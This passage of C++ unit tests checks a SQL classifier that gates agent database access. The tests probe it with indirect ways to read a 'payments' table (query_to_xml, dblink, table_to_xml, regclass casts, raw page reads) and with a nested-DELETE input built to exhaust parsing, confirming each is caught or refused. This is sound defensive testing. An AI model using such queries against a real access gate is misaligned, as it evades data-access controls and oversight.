           "SELECT query_to_xml('select * from payments' COLLATE \"C\", true, false, '')",
           "SELECT query_to_xml(nulls => true, tableforest => false, targetns => '', query => q) FROM queries",
           "SELECT query_to_xml(VARIADIC ARRAY['select * from payments'])",
           "SELECT query_to_xml(nulls => true)",
           "SELECT * FROM ts_stat((SELECT 'select v from payments'))",
           "SELECT * FROM dblink('conn', q) AS d(a int), queries",
           "SELECT * FROM dblink(conn => 'c', sql => 'select 1') AS d(a int)",
           "SELECT query_to_xml('select * from payments where', true, false, '')",
           "CREATE FUNCTION f(text) RETURNS xml LANGUAGE sql AS 'select query_to_xml($1, true, false, '''')'",
       }) {
    const auto c = classify(sql);
    EXPECT_FALSE(c.parsed) << sql;
    EXPECT_FALSE(c.parse_error.empty()) << sql;
  }
  EXPECT_NE(classify("SELECT query_to_xml('selec 1', true, false, '')").parse_error.find("query_to_xml"),
            std::string::npos);
  EXPECT_NE(classify("SELECT query_to_xml(q, true, false, '') FROM x").parse_error.find("not a constant"),
            std::string::npos);
  // SQL text inside SQL text inside ... is bounded.
  std::string sql = "select 1";
  for (int i = 0; i < 12; ++i) {
    std::string quoted;
    for (char ch : sql) quoted += ch == '\'' ? std::string("''") : std::string(1, ch);
    sql = "select query_to_xml('" + quoted + "', true, false, '')";
  }
  EXPECT_FALSE(classify(sql).parsed);
  // A NULL runs nothing.
  EXPECT_TRUE(parsed("SELECT query_to_xml(NULL, true, false, '')").parsed);
}

TEST(sql_classifier_tables, regclass_constants_and_table_builtins_name_tables) {
  classifier_spec spec = policy_spec();
  spec.tables = true;
  auto scanner = make_scanner(spec);
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"SELECT table_to_xml('payments', true, false, '')", "payments"},
      {"SELECT table_to_xml('payments'::pg_catalog.regclass, true, false, '')", "payments"},
      {"SELECT table_to_xml(tbl => 'Public.\"Payments\"', nulls => true, tableforest => false, targetns => '')",
       "public.Payments"},
      {"SELECT table_to_xmlschema(' PUBLIC . payments ', true, false, '')", "public.payments"},
      {"SELECT table_to_xml_and_xmlschema('payments'::pg_catalog.text::pg_catalog.regclass, true, false, '')",
       "payments"},
      {"SELECT 'payments'::text::regclass", "payments"},
      {"SELECT 'payments'::regclass", "payments"},
      {"SELECT regclass 'payments'", "payments"},
      {"SELECT CAST('payments' AS pg_catalog.regclass)::oid", "payments"},
      {"SELECT to_regclass('payments')", "payments"},
      {"SELECT pg_relation_size('s.payments'::regclass)", "s.payments"},
      {"SELECT * FROM heap_page_items(get_raw_page('payments', 0))", "payments"},
      {"SELECT schema_to_xml('public', true, false, '')", "public.*"},
      {"SELECT schema_to_xml(s, true, false, '') FROM x", "*"},
      {"SELECT schema_to_xmlschema(schema => 'billing', nulls => true, tableforest => false, targetns => '')",
       "billing.*"},
      {"SELECT database_to_xml(true, false, '')", "*"},
      {"SELECT database_to_xml_and_xmlschema(true, false, '')", "*"},
  };
  for (const auto& [sql, table] : cases) {
    classification c;
    scanner->classify_full(sql, c);
    ASSERT_TRUE(c.parsed) << sql << ": " << c.parse_error;
    EXPECT_TRUE(any_entry_names_table(c, table)) << sql;
  }
  // A regclass cast of a column is an OID lookup: nothing read.
  classification c;
  scanner->classify_full("SELECT oid::regclass, relname FROM pg_class", c);
  ASSERT_TRUE(c.parsed);
  EXPECT_EQ(c.statements[0].tables, strings{"pg_class"});
  // Under table rules, a table the call cannot name is unreadable.
  for (const char* sql : {"SELECT table_to_xml(16384, true, false, '')", "SELECT table_to_xml('16384', true, false, '')",
                          "SELECT table_to_xml(r::regclass, true, false, '') FROM x",
                          "SELECT table_to_xml('payments'::regclass, true, false, '')",  // which regclass?
                          "SELECT table_to_xml(tbl => r, nulls => true, tableforest => false, targetns => '') FROM x",
                          "SELECT cursor_to_xml('c', 10, true, false, '')",
                          "SELECT cursor_to_xmlschema('c', true, false, '')"})
    unreadable(*scanner, sql);
  // Without them nobody cares which table.
  auto no_tables = make_scanner(policy_spec());
  classification d;
  no_tables->classify_full("SELECT table_to_xml(16384, true, false, '')", d);
  EXPECT_TRUE(d.parsed) << d.parse_error;
  no_tables->classify_full("SELECT cursor_to_xml('c', 10, true, false, '')", d);
  EXPECT_TRUE(d.parsed) << d.parse_error;
}

// --- Issue 10 item 6: the cost of one command is bounded ------------------------

// Levels of DELETE ... WHERE EXISTS (WITH ... SELECT 1) around a FROM list of
// many tables: each level's entry holds every table below it, so the names
// reported grow with levels x tables. Past names_max it is refused as too
// complex instead of costing seconds (figures in docs/sql-classification.md).
std::string nested_deletes(int levels, int tables) {
  std::string sql = "SELECT 1 FROM ";
  for (int i = 0; i < tables; ++i) {
    if (i > 0) sql += ',';
    sql += "t" + std::to_string(i);
  }
  for (int i = 0; i < levels; ++i) sql = "DELETE FROM d WHERE EXISTS (WITH c AS (" + sql + ") SELECT 1)";
  return sql;
}

TEST(sql_classifier_bounds, nested_levels_times_names_is_bounded) {
  classifier_spec spec = policy_spec();
  spec.tables = true;
  auto scanner = make_scanner(spec);
  const std::string attack = nested_deletes(450, 65000);
  ASSERT_LT(attack.size(), spec.statement_bytes_max);
  classification c;
  scanner->classify_full(attack, c);
  EXPECT_FALSE(c.parsed);
  EXPECT_NE(c.parse_error.find("too complex"), std::string::npos) << c.parse_error;
  EXPECT_TRUE(c.statements.empty());
  // The same tables at the top level, or fewer a few levels down, are classified.
  scanner->classify_full(nested_deletes(0, 65000), c);
  ASSERT_TRUE(c.parsed) << c.parse_error;
  EXPECT_EQ(c.statements[0].tables.size(), 65000u);
  scanner->classify_full(nested_deletes(30, 2000), c);
  ASSERT_TRUE(c.parsed) << c.parse_error;
  ASSERT_EQ(c.statements.size(), 30u);
  for (const auto& s : c.statements) {
    EXPECT_EQ(s.kind, "DELETE");
    EXPECT_TRUE(names_table(s, "t1999"));  // every level holds what is below it
    EXPECT_TRUE(names_table(s, "d"));
    EXPECT_TRUE(s.writes);
  }
  // The allowance is for the whole text: statements cannot multiply it.
  const std::string sixty_thousand = nested_deletes(30, 2000);
  scanner->classify_full(sixty_thousand + ";" + sixty_thousand, c);
  ASSERT_TRUE(c.parsed) << c.parse_error;  // 2 x 60,030 names fit
  std::string many;
  for (int i = 0; i < 4; ++i) {
    std::string renamed = sixty_thousand;
    for (std::size_t at = renamed.find(",t"); at != std::string::npos; at = renamed.find(",t", at + 2))
      renamed.replace(at, 2, ",s" + std::to_string(i) + "_");
    many += renamed + ";";
  }
  scanner->classify_full(many, c);
  EXPECT_FALSE(c.parsed);
  EXPECT_NE(c.parse_error.find("too complex"), std::string::npos) << c.parse_error;
}

TEST(sql_classifier_bounds, names_and_walk_budgets) {
  classifier_spec spec = policy_spec();
  spec.names_max = 5;
  auto scanner = make_scanner(spec);
  classification c;
  scanner->classify_full("SELECT * FROM a, b, c, d, e", c);
  EXPECT_TRUE(c.parsed) << c.parse_error;
  scanner->classify_full("SELECT * FROM a, b, c, d, e, f", c);
  EXPECT_FALSE(c.parsed);
  // A name counts once per entry holding it: 3 tables in a nested DELETE
  // are 6 names.
  scanner->classify_full("WITH x AS (DELETE FROM a USING b, c RETURNING 1) SELECT 1", c);
  EXPECT_FALSE(c.parsed);
  // Repeats cost nothing.
  scanner->classify_full("SELECT * FROM a, a, a, a, a, a, a, a JOIN a ON true", c);
  EXPECT_TRUE(c.parsed) << c.parse_error;

  spec = policy_spec();
  spec.walk_nodes_max = 200;
  scanner = make_scanner(spec);
  scanner->classify_full("DELETE FROM t WHERE a = 1", c);
  EXPECT_TRUE(c.parsed) << c.parse_error;
  std::string wide = "DELETE FROM t WHERE a IN (1";
  for (int i = 0; i < 300; ++i) wide += ",1";
  scanner->classify_full(wide + ")", c);
  EXPECT_FALSE(c.parsed);
  EXPECT_NE(c.parse_error.find("too complex"), std::string::npos);
}

}  // namespace
}  // namespace agentgate::masking
